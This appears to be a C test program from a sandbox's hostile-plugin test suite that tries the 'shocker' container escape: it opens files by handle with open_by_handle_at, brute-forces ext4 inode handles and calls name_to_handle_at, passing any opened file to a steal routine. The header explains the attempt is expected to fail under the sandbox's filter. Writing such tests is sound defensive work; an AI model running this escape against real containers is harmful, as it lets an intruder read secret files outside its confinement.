/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Tries: open_by_handle_at(), the "shocker" container escape: a file
 * handle names an inode on a file system without any path, so a mount of
 * that file system (here: an allowed directory on the same disk as the
 * secret) opens any file on it.  The runner hands it the secret's exact
 * handle (handle=TYPE:HEX); it also brute-forces ext4 handles of low inode
 * numbers, as the original exploit did, and asks name_to_handle_at() for
 * handles of its own.
 * Why it fails: the baseline filter refuses open_by_handle_at and
 * name_to_handle_at from Limited up, and the call needs
 * CAP_DAC_READ_SEARCH in the initial user namespace, which no plugin has.
 */
#include "../hostile.h"

static void try_handle(int mount_fd, int type, const unsigned char *bytes, unsigned len)
{
    struct
    {
        struct file_handle fh;
        unsigned char data[128];
    } h;

    h.fh.handle_bytes = len;
    h.fh.handle_type = type;
    memcpy(h.fh.f_handle, bytes, len);
    int fd = open_by_handle_at(mount_fd, &h.fh, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        steal_fd(fd, "open_by_handle_at");
        close(fd);
    }
}

int main(int argc, char **argv)
{
    hostile_init(argc, argv);
    const char *mount = arg("drop") ? arg("drop") : "/";
    int mount_fd = (int)attempt("open the mount", open(mount, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    if (mount_fd < 0)
        return 1;

    const char *handle = arg("handle");
    if (handle) {
        int type = atoi(handle);
        const char *hex = strchr(handle, ':');
        unsigned char bytes[128];
        unsigned len = 0;
        for (hex = hex ? hex + 1 : ""; hex[0] && hex[1] && len < sizeof(bytes); hex += 2)
            sscanf(hex, "%2hhx", &bytes[len++]);
        try_handle(mount_fd, type, bytes, len);
        struct
        {
            struct file_handle fh;
            unsigned char data[128];
        } h;
        memcpy(h.fh.f_handle, bytes, len);
        h.fh.handle_bytes = len;
        h.fh.handle_type = type;
        attempt("open_by_handle_at (the secret's handle)",
            open_by_handle_at(mount_fd, &h.fh, O_RDONLY | O_CLOEXEC));
    }
    /* ext4's FILEID_INO32_GEN: inode, generation. */
    for (uint32_t ino = 2; ino < 4096; ino++) {
        uint32_t raw[2] = { ino, 0 };
        try_handle(mount_fd, 1, (unsigned char *)raw, sizeof(raw));
    }
    struct
    {
        struct file_handle fh;
        unsigned char data[128];
    } mine = { .fh.handle_bytes = 128 };
    int id;
    attempt("name_to_handle_at", name_to_handle_at(mount_fd, ".", &mine.fh, &id, 0));
    return finish();
}
